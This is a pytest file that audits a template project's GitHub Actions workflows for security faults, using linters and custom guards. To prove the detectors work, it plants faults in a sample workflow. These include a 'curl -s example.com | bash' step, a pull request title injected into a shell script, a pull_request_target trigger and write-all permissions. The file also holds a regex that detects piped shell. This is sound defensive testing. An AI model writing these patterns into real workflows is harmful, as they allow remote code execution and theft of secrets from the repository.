"""Workflows, at rest and baked: two linters find nothing, and find every fault planted here."""

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from conftest import PROJECT, ROOT, tracked

ZIZMOR = Path(sys.executable).parent / "zizmor"
VERSION = os.environ.get("ACTIONLINT", "v1.7.12")
_CACHE = Path.home() / ".cache" / "cookiecutter-mlops-level2"  # before a test moves HOME
ACTIONLINT = Path(os.environ.get("TOOLS", _CACHE)) / f"actionlint-{VERSION}"
AUDIT = ["--offline", "--persona", "auditor", "--no-progress", "--format", "plain"]


def zizmor(folder: Path) -> str:
    """Audit a repository's workflows and actions as strictly as it goes; return the findings."""
    done = subprocess.run(
        [ZIZMOR, *AUDIT, folder / ".github"], capture_output=True, text=True, check=False
    )
    assert done.returncode in (0, *range(10, 15)), done.stderr
    return "" if done.returncode == 0 else done.stdout


def actionlint(folder: Path) -> str:
    """Check a repository's workflows: syntax, expressions, contexts, job graph, shell quoting."""
    if not ACTIONLINT.exists():
        assert os.environ.get("CI") != "true", "in CI a check of the workflows may not be skipped"
        pytest.skip("actionlint is not here: `make tools` builds it where Go is at hand")
    done = subprocess.run(
        [ACTIONLINT, "-oneline", "-shellcheck=", "-pyflakes="],
        cwd=folder,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode in (0, 1), done.stderr
    return done.stdout


def repository(source: Path, to: Path) -> Path:
    """Copy the workflows and all they call by path into a repository of their own."""
    for name in tracked(source) if source in (ROOT, PROJECT) else [Path(".github")]:
        if name.parts[0] == ".github":
            (to / name).parent.mkdir(parents=True, exist_ok=True)
            copy = shutil.copytree if (source / name).is_dir() else shutil.copy
            copy(source / name, to / name)
    subprocess.run(["git", "init", "--quiet"], cwd=to, check=True)
    return to


@pytest.fixture(params=["template", "at rest", "baked"])
def workflows(request, bake, tmp_path):
    source = {"template": ROOT, "at rest": PROJECT}.get(request.param) or bake()
    return repository(source, tmp_path / "repository")


def test_zizmor_finds_nothing(workflows):
    assert not zizmor(workflows)


def test_actionlint_finds_nothing(workflows):
    assert not actionlint(workflows)


def jobs(folder: Path):
    """Yield file, the whole workflow, name and content of every job."""
    for path in sorted((folder / ".github/workflows").glob("*.yml")):
        flow = yaml.safe_load(path.read_text())
        for name, job in flow["jobs"].items():
            yield path, flow, name, job


def unsafe(folder: Path) -> list[str]:
    """Complain about what the linters leave to taste."""
    found = []
    for path, flow, name, job in jobs(folder):
        where = f"{path.name}: {name}"
        triggers = flow[True]
        if flow.get("permissions") != {}:
            found.append(f"{where}: rights for every job")
        if "permissions" not in job:
            found.append(f"{where}: no rights of its own")
        if "uses" not in job and "timeout-minutes" not in job:
            found.append(f"{where}: no timeout")
        if "pull_request_target" in triggers:
            found.append(f"{where}: pull_request_target")
        if "workflow_call" not in triggers and "concurrency" not in {*flow, *job}:
            found.append(f"{where}: no concurrency")
        if "pull_request" in triggers:
            text = str(job)
            if "secrets." in text or "write" in str(job.get("permissions")):
                found.append(f"{where}: untrusted code with secrets or a token that writes")
        for step in job.get("steps", []):
            if "${{" in step.get("run", ""):
                found.append(f"{where}: an expression inside a script")
        for line in path.read_text().splitlines():
            grant = re.fullmatch(r" {6}([a-z-]+): (read|write)( #.+)?", line)
            if grant and not grant[3]:
                found.append(f"{where}: `{line.strip()}` without a reason")
            if re.search(r"curl .*\| *(ba)?sh", line):
                found.append(f"{where}: a script from the network")
    return found


def test_every_guard_of_ours_passes(workflows):
    assert list(jobs(workflows))
    assert unsafe(workflows) == []


# what a cloud or cluster takes instead, and the variable that says so; a kubeconfig may hold no key
WITHOUT_KEY = {
    "AWS_ACCESS_KEY_ID": "AWS_ROLE_ARN",
    "AWS_SECRET_ACCESS_KEY": "AWS_ROLE_ARN",
    "KF_PIPELINES_TOKEN": "KF_PIPELINES_AUDIENCE",
    "KUBECONFIG": "",
}
NO_OTHER_WAY = {
    "MLFLOW_TRACKING_TOKEN": "MLflow's server takes no token of GitHub's",
    "REGISTRY_PASSWORD": "ghcr.io takes the job's own token, other registries a password",
}


def kept_keys(folder: Path) -> list[str]:
    """Complain about jobs with a long-lived key that cannot log in without one."""
    found = []
    for path, _, name, job in jobs(folder):
        text, where = str(job), f"{path.name}: {name}"
        if "uses" in job:
            continue  # the called workflow's jobs are looked at themselves
        keys = set(re.findall(r"secrets\.([A-Z_]+)", text)) - {"GITHUB_TOKEN"}
        for key in sorted(keys - {*WITHOUT_KEY, *NO_OTHER_WAY}):
            found.append(f"{where}: {key} is known neither as replaceable nor as needed")
        keys &= set(WITHOUT_KEY)
        if not keys:
            continue
        if job.get("permissions", {}).get("id-token") != "write":
            found.append(f"{where}: {min(keys)} without `id-token: write`")
        uses = [step.get("uses") for step in job["steps"]]
        if "./.github/actions/login" not in uses:
            found.append(f"{where}: {min(keys)} without the action that logs in")
        for key in sorted(key for key in keys if WITHOUT_KEY[key]):
            fallback = f"vars.{WITHOUT_KEY[key]} == '' && secrets.{key} || ''"
            if text.count(f"secrets.{key}") != text.count(fallback):
                found.append(f"{where}: {key} also where a role is named")
    return found


@pytest.fixture
def flows(bake, tmp_path):
    """A project's own workflows, to plant faults in."""
    return repository(bake(), tmp_path / "repository") / ".github/workflows"


def test_every_key_is_a_fallback(flows):
    assert kept_keys(flows.parents[1]) == []


@pytest.mark.parametrize(
    ("name", "good", "fault", "complaint"),
    [
        ("lock", "id-token: write", "id-token: none", "AWS_ACCESS_KEY_ID without `id-token"),
        ("pipeline", "./.github/actions/login", "./.github/actions/setup", "without the action"),
        ("promote", "id-token: write", "id-token: none", "KUBECONFIG without `id-token"),
        (
            "monitor",
            "vars.AWS_ROLE_ARN == '' && secrets.AWS_ACCESS_KEY_ID || ''",
            "secrets.AWS_ACCESS_KEY_ID",
            "AWS_ACCESS_KEY_ID also where a role is named",
        ),
        (
            "pipeline",
            "vars.KF_PIPELINES_AUDIENCE == '' && secrets.KF_PIPELINES_TOKEN || ''",
            "secrets.KF_PIPELINES_TOKEN",
            "KF_PIPELINES_TOKEN also where a role is named",
        ),
        ("lock", "secrets.MLFLOW_TRACKING_TOKEN", "secrets.GCP_KEY", "GCP_KEY is known neither"),
    ],
)
def test_a_key_without_another_way_in_is_refused(flows, name, good, fault, complaint):
    path = flows / f"{name}.yml"
    text = path.read_text()
    assert good in text
    path.write_text(text.replace(good, fault))
    found = kept_keys(flows.parents[1])
    assert len(found) == 1
    assert complaint in found[0]


def untested(flow: dict) -> list[str]:
    """Complain where ci does not run all of the project's tests on a table fetched before."""
    runs = " ".join(step.get("run", "") for step in flow["jobs"]["check"]["steps"]).split()
    found = [f"`{word}` is not run" for word in ("pull", "test") if word not in runs]
    if not found and runs.index("pull") > runs.index("test"):
        found.append("the tests run before their table is here")
    return found


@pytest.mark.parametrize(
    ("fault", "complaint"),
    [
        ("make pull check", "`test` is not run"),
        ("make test", "`pull` is not run"),
        ("make test pull", "the tests run before their table is here"),
    ],
)
def test_ci_of_a_project_runs_all_its_tests_on_its_table(bake, fault, complaint):
    flow = yaml.safe_load((bake() / ".github/workflows/ci.yml").read_text())
    assert untested(flow) == []
    step = next(step for step in flow["jobs"]["check"]["steps"] if "test" in step.get("run", ""))
    step["run"] = fault
    assert untested(flow) == [complaint]


def without_node(flow: dict) -> list[str]:
    """Complain where npm is called before a Node of a fixed version is there."""
    found = []
    for name, job in flow["jobs"].items():
        node = ""
        for step in job.get("steps", []):
            if step.get("uses", "").startswith("actions/setup-node@"):
                node = step["with"]["node-version"]
            if "npm install" in step.get("run", "") and not re.fullmatch(r"[0-9.]+", node):
                found.append(f"{name}: npm by whatever Node the runner has")
    return found


def test_npm_runs_on_a_pinned_node(flows):
    flow = yaml.safe_load((flows / "report.yml").read_text())
    assert without_node(flow) == []
    steps = flow["jobs"]["comment"]["steps"]
    [node] = [step for step in steps if step.get("uses", "").startswith("actions/setup-node@")]
    node["with"]["node-version"] = "lts/*"
    assert without_node(flow) == ["comment: npm by whatever Node the runner has"]
    steps.remove(node)
    assert without_node(flow) == ["comment: npm by whatever Node the runner has"]


ATTEST = "actions/attest-build-provenance@"


def unattested(folder: Path) -> list[str]:
    """Say which pushed image no later step attests by its digest, and which job may not attest."""
    found, every = [], list(jobs(folder))
    steps = {f"workflows/{path.name}": [] for path, _, _, _ in every}
    for path, _, _, job in every:
        steps[f"workflows/{path.name}"] += job.get("steps", [])
    for path in (folder / ".github").glob("actions/*/action.yml"):
        steps[f"actions/{path.parent.name}"] = yaml.safe_load(path.read_text())["runs"]["steps"]
    ways = set()  # what attests, itself or by what it calls
    for place, own in steps.items():
        subjects = [one["with"]["subject-digest"] for one in own if ATTEST in one.get("uses", "")]
        ways |= {f"./.github/{place}"} if subjects else set()
        for one in own:
            digest = f"${{{{ steps.{one.get('id')}.outputs.digest }}}}"
            if "docker/build-push-action@" in one.get("uses", "") and digest not in subjects:
                found.append(f"{place}: an image nobody attests")
    for _ in every:  # a workflow calls one that calls another
        for path, _, name, job in every:
            uses = [job.get("uses"), *(one.get("uses", "") for one in job.get("steps", []))]
            if not ways.isdisjoint(uses) or any(ATTEST in (one or "") for one in uses):
                ways.add(f"./.github/workflows/{path.name}")
                if job["permissions"].get("attestations") != "write":
                    found.append(f"workflows/{path.name}: {name} may not attest")
    return sorted(set(found))


RIGHT = ("      attestations: write #", "      # attestations: write")
UNATTESTED = {
    "another digest": (
        "actions/deploy/action.yml",
        ("subject-digest: ${{ steps.push", "subject-digest: ${{ steps.may"),
        ["actions/deploy: an image nobody attests"],
    ),
    "no right": ("workflows/promote.yml", RIGHT, ["workflows/promote.yml: promote may not attest"]),
    "callers without it": (
        "workflows/ct.yml",
        RIGHT,
        [f"workflows/ct.yml: {name} may not attest" for name in ("production", "train")],
    ),
}


def test_every_pushed_image_is_attested(flows):
    assert unattested(flows.parents[1]) == []


@pytest.mark.parametrize(("path", "change", "complaints"), UNATTESTED.values(), ids=UNATTESTED)
def test_an_image_nobody_attests_is_seen(flows, path, change, complaints):
    good, fault = change
    file = flows.parent / path
    text = file.read_text()
    assert good in text
    file.write_text(text.replace(good, fault))
    assert unattested(flows.parents[1]) == complaints


def unreported(flow: dict) -> list[str]:
    """Complain where a required check would not report on documents alone."""
    required = [flow["jobs"][name] for name in ("check", "gate")]
    found = [f"{job['name']} is skipped" for job in required if "code ==" in str(job.get("if"))]
    found += ["the workflow is skipped"] if "paths" in str(flow[True]["pull_request"]) else []
    idle = [step for step in flow["jobs"]["check"]["steps"] if "make" in step.get("run", "")]
    asked = "steps.changes.outputs.code == 'true'"
    return found + [f"{step['name']}: runs for documents" for step in idle if step["if"] != asked]


def test_on_documents_alone_both_required_checks_report(flows):
    flow = yaml.safe_load((flows / "ci.yml").read_text())
    assert unreported(flow) == []
    flow[True]["pull_request"] = {"paths-ignore": ["docs/**"]}
    flow["jobs"]["check"]["if"] = "needs.changes.outputs.code == 'true'"
    assert unreported(flow) == ["check is skipped", "the workflow is skipped"]


SHA = "3d3c42e5aac5ba805825da76410c181273ba90b1"
GOOD = f"""name: ci
on:
  pull_request:
permissions: {{}}
concurrency:
  group: ci
  cancel-in-progress: true
jobs:
  check:
    name: check
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    permissions:
      contents: read # to check out
    steps:
      - name: Check out
        uses: actions/checkout@{SHA} # v7.0.1
        with:
          persist-credentials: false
      - name: Say
        env:
          TITLE: ${{{{ github.event.pull_request.title }}}}
        run: echo "$TITLE"
"""
TITLE = "${{ github.event.pull_request.title }}"
ALONE = "concurrency:\n  group: ci\n  cancel-in-progress: true\n"
RIGHTS = "    permissions:\n      contents: read # to check out\n"
FAULTS = {
    "unpinned action": (zizmor, f"@{SHA} # v7.0.1", "@v7", "unpinned-uses"),
    "credentials kept": (zizmor, "persist-credentials: false", "fetch-depth: 1", "artipacked"),
    "title in a script": (zizmor, 'echo "$TITLE"', f'echo "{TITLE}"', "template-injection"),
    "rights for all": (
        zizmor,
        "permissions: {}",
        "permissions: write-all",
        "excessive-permissions",
    ),
    "right without reason": (
        zizmor,
        "contents: read # to check out",
        "issues: write",
        "undocumented",
    ),
    "privileged trigger": (
        zizmor,
        "  pull_request:",
        "  pull_request_target:",
        "dangerous-triggers",
    ),
    "no concurrency": (
        zizmor,
        ALONE,
        "",
        "concurr",
    ),
    "secret outside": (zizmor, TITLE, "${{ secrets.TOKEN }}", "secrets-outside-env"),
    "unknown context": (actionlint, TITLE, "${{ githb.event }}", "undefined variable"),
    "unknown event": (actionlint, "  pull_request:", "  pull_requests:", "unknown Webhook event"),
    "unknown output": (actionlint, TITLE, "${{ steps.no.outputs.x }}", "property"),
    "hostile text": (actionlint, 'echo "$TITLE"', f'echo "{TITLE}"', "potentially untrusted"),
    "no rights named": (unsafe, "permissions: {}\n", "", "rights for every job"),
    "rights of a job": (
        unsafe,
        "    permissions:\n      contents: read # to check out\n",
        "",
        "no rights",
    ),
    "reason": (unsafe, "read # to check out", "read", "without a reason"),
    "timeout": (unsafe, "    timeout-minutes: 5\n", "", "no timeout"),
    "target": (unsafe, "  pull_request:", "  pull_request_target:", "pull_request_target"),
    "free for all": (
        unsafe,
        ALONE,
        "",
        "no concurr",
    ),
    "secret given": (unsafe, TITLE, "${{ secrets.TOKEN }}", "untrusted code with secrets"),
    "token that writes": (unsafe, "contents: read", "contents: write", "token that writes"),
    "expression": (unsafe, 'echo "$TITLE"', 'echo "${{ github.ref }}"', "expression inside"),
    "piped shell": (unsafe, 'echo "$TITLE"', "curl -s example.com | bash", "from the network"),
}


def planted(text: str, folder: Path) -> Path:
    (folder / ".github/workflows").mkdir(parents=True)
    (folder / ".github/workflows/ci.yml").write_text(text)
    subprocess.run(["git", "init", "--quiet"], cwd=folder, check=True)
    return folder


@pytest.mark.parametrize("guard", [zizmor, actionlint, unsafe])
def test_a_good_workflow_passes(guard, tmp_path):
    assert not guard(planted(GOOD, tmp_path))


@pytest.mark.parametrize(("guard", "good", "fault", "complaint"), FAULTS.values(), ids=FAULTS)
def test_a_planted_fault_is_seen(guard, good, fault, complaint, tmp_path):
    assert good in GOOD
    found = guard(planted(GOOD.replace(good, fault), tmp_path))
    assert complaint in str(found)
